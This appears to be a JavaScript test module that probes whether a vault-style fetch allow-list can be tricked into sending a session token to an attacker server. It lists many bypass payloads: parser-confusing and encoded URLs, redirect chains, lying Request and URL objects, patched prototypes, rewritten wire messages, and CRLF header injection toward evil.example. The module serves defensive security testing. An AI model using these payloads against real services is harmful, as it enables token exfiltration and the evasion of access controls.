// Tricks on the list of APIs, to have a token sent to the attacker's own server.
import { onPosted } from '../wire.mjs';

/** An attack that fetches `urls` through the session, by GET and by POST. */
const fetching = (id, title, urls, more = {}) => ({
  id: `list-${id}`,
  title: `has session.fetch send a token to its own server ${title}`,
  when: 'after',
  async run(context) {
    const { session, record, config } = context;
    const app = await session();
    const [api, attacker] = [new URL(config.api), new URL(config.attacker)];
    for (const url of await urls({ api, attacker, ...context })) {
      for (const init of [undefined, { method: 'POST', body: 'x' }]) {
        await app.fetch(url, init).then(
          (response) => record([response.url, response.status]),
          (error) => record(error),
        );
      }
    }
  },
  ...more,
});

export const allowList = [
  fetching('relative', 'by // and \\, which parsers read differently', ({ attacker }) => [
    `//${attacker.host}/`,
    `\\\\${attacker.host}/`,
    `/\\${attacker.host}/`,
    `/\t/${attacker.host}/`,
    `http:/${attacker.host}/`,
    `http:${attacker.host}/`,
    `http:\\\\${attacker.host}\\`,
    ` \n${attacker.href}`,
  ]),
  fetching('userinfo', 'by the API’s host as user and password before an @', ({ api, attacker }) => [
    `http://${api.host}@${attacker.host}/`,
    `http://${api.host}%2f@${attacker.host}/`,
    `http://${api.host}\\@${attacker.host}/`,
    `http://${api.hostname}:${api.port}@${attacker.host}/orders`,
    `http://user@${api.host}/redirect?to=${attacker.href}`,
    `${api.origin}@${attacker.host}/orders`,
    `${api.origin}:x@${attacker.host}/orders`,
  ]),
  fetching('hosts', 'by hosts that begin or end like the API’s, or normalise to another', ({ api, attacker }) => [
    `http://${api.hostname}.localhost:${attacker.port}/orders`,
    `http://evil-${api.hostname}.localhost:${attacker.port}/orders`,
    `http://evil.${api.hostname}:${attacker.port}/orders`,
    `http://${api.hostname}.:${attacker.port}/orders`,
    `http://${api.hostname.toUpperCase()}:${attacker.port}/orders`,
    `http://127.0.0.1:${attacker.port}/orders`,
    `http://127.0.0.1:${api.port}/redirect?to=${attacker.href}`,
    `http://0x7f.1:${attacker.port}/orders`,
    `http://2130706433:${attacker.port}/orders`,
    `http://[::1]:${attacker.port}/orders`,
    `http://ⓛocalhost:${attacker.port}/orders`,
    `http://ｌｏｃａｌｈｏｓｔ:${attacker.port}/orders`,
    `http://loc\u00adalhost:${attacker.port}/orders`,
    `http://local%68ost:${attacker.port}/orders`,
  ]),
  fetching('ports', 'by other ports and schemes of the API’s host', ({ api, attacker }) => [
    `http://${api.hostname}:${attacker.port}/`,
    `http://${api.hostname}:0${attacker.port}/`,
    `http://${api.hostname}:${api.port}#@${attacker.host}/`,
    `https://${api.hostname}:${attacker.port}/`,
    `ws://${api.hostname}:${attacker.port}/`,
    `ftp://${api.hostname}:${attacker.port}/`,
    `HTTP://${api.hostname}:${attacker.port}/`,
  ]),
  fetching('paths', 'by encoded dots and slashes in paths', ({ api, attacker }) => [
    `${api.href}%2e%2e/%2e%2e//${attacker.host}/`,
    `${api.href}..%2f..%2f${attacker.href}`,
    `${api.href}orders/..;/${attacker.host}`,
    `${api.href}/${attacker.host}/`,
    `${api.href}redirect/?to=${attacker.href}`,
    `${api.href}orders?url=${attacker.href}`,
  ]),
  fetching('redirects', 'by redirects of the API', ({ api, attacker }) => {
    const to = (url) => `${api.href}redirect?to=${encodeURIComponent(url)}`;
    return [
      to(attacker.href),
      to(`//${attacker.host}/`),
      to(to(attacker.href)),
      to(`http://127.0.0.1:${attacker.port}/`),
      to(`${api.protocol}//x@${attacker.host}/`),
    ];
  }),
  fetching('blob', 'by blob:, data:, about: and file: URLs', ({ attacker }) => [
    URL.createObjectURL(new Blob(['x'])),
    `blob:${attacker.href}x`,
    `data:text/html,<meta http-equiv=refresh content="0;url=${attacker.href}">`,
    'about:blank',
    'file:///etc/hostname',
    `filesystem:${attacker.href}`,
    `view-source:${attacker.href}`,
  ]),
  fetching('request', 'by subclasses of Request and URL that lie about where they go', ({ api, attacker }) => {
    class Liar extends Request {
      get url() {
        return `${api.href}orders`;
      }
    }
    class Slippery extends URL {
      #asked = 0;
      toString() {
        return this.#asked++ ? attacker.href : `${api.href}orders`;
      }
      get href() {
        return this.toString();
      }
    }
    let asked = 0;
    const changing = { toString: () => (asked++ % 2 ? attacker.href : `${api.href}orders`) };
    const primitive = { [Symbol.toPrimitive]: () => (asked++ % 2 ? attacker.href : `${api.href}orders`) };
    const given = new Request(attacker.href);
    Object.defineProperty(given, 'url', { value: `${api.href}orders` });
    return [new Liar(attacker.href), new Slippery(attacker.href), changing, changing, primitive, primitive, given];
  }),
  {
    id: 'list-prototypes',
    title: 'changes the getters of Request and URL, so that the page part takes its own server for an API',
    when: 'after',
    async run({ session, config, hooks, record }) {
      const app = await session();
      const orders = `${config.api}orders`;
      const api = new URL(orders);
      const lies = {
        href: orders,
        origin: api.origin,
        pathname: api.pathname,
        host: api.host,
        hostname: api.hostname,
        port: api.port,
      };
      for (const [name, value] of Object.entries(lies)) hooks.replace(URL.prototype, name, { get: () => value });
      record(await app.fetch(config.attacker).catch((error) => error));
      record(await app.fetch(new Request(config.attacker)).catch((error) => error));
      hooks.replace(Request.prototype, 'url', { get: () => orders });
      record(await app.fetch(new Request(config.attacker)).catch((error) => error));
      hooks.replace(String.prototype, 'startsWith', { writable: true, value: () => true });
      hooks.replace(Array.prototype, 'some', { writable: true, value: () => true });
      record(await app.fetch(config.attacker, { body: () => 'x', method: 'POST' }).catch((error) => error));
    },
  },
  {
    id: 'list-wire',
    title: 'changes the messages on their way to the vault: the URL of an API call becomes its own server’s',
    when: 'after',
    async run({ hooks, config, victim }) {
      onPosted(hooks, (message) => {
        const request = message?.[0]?.command?.command?.fetch;
        if (!request) return;
        request.url = config.attacker;
        request.headers.push(['host', new URL(config.api).host], ['origin', config.api]);
        request.init.push(['referrer', config.api]);
      });
      await victim('fetch', 'post');
    },
    disturbs: true,
  },
  {
    id: 'list-init',
    title: 'gives session.fetch options that change where a request goes or what is kept of it',
    when: 'after',
    async run({ session, config, record }) {
      const app = await session();
      const orders = `${config.api}orders`;
      const inits = [
        { url: config.attacker },
        { redirect: 'manual' },
        { mode: 'no-cors' },
        { mode: 'navigate' },
        { referrer: `${location.origin}/`, referrerPolicy: 'unsafe-url' },
        { keepalive: true },
        { cache: 'force-cache' },
        { integrity: 'sha256-x' },
        { headers: { 'x-test': 'x', host: 'evil.example', ':authority': 'evil.example' } },
        { headers: { 'x-test': 'a\r\nhost: evil.example' } },
        { method: 'GET\r\nHost: evil.example' },
        { signal: { aborted: false } },
        { body: () => config.attacker, method: 'POST' },
        { window: null, priority: 'high', duplex: 'half' },
      ];
      for (const init of inits) record(await app.fetch(orders, init).catch((error) => error));
      record(await fetch(orders, { cache: 'only-if-cached', mode: 'same-origin' }).catch((error) => error));
    },
  },
];
